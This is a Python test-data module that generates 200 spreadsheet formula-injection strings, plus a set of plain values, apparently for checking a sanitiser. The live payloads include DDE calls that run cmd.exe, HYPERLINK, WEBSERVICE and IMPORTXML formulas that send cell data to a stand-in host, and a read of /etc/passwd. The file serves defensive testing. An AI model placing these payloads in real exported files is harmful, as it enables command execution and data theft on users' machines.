"""Two hundred texts that spreadsheet programs might take for formulas."""

from __future__ import annotations

from itertools import product

LIVE = (
    "1+1", "SUM(1,1)", "cmd|' /C calc'!A0", 'HYPERLINK("http://example.org?x="&A1,"Error")', 'WEBSERVICE("http://example.org")',
    'IMPORTXML(CONCAT("http://example.org?v=",A1),"//a")', 'DDE("cmd";"/C calc";"__")', "rundll32|'URL.dll,OpenURL calc.exe'!A",
    "'file:///etc/passwd'#$passwd.A1", "MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''",
)  # fmt: skip
SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\u2212", "|")
BEFORE = ("", " ", "\t", "\r", "\n", "\u00a0", "\u200b", "\ufeff", "\u3000", "\x1f")

# Every sign before every text, and unseen things before every sign.
PAYLOADS = [
    *(sign + text for sign, text in product(SIGNS, LIVE)),
    *(f"{before}{sign}6*7" for before, sign in product(BEFORE, SIGNS)),
]
PLAIN = ("Solar heat, Anand", "5 MW", "a=b", "A-1", "(=)", "検証", "सत्यापन", "", '"quoted"', "3.5", "it's")  # fmt: skip
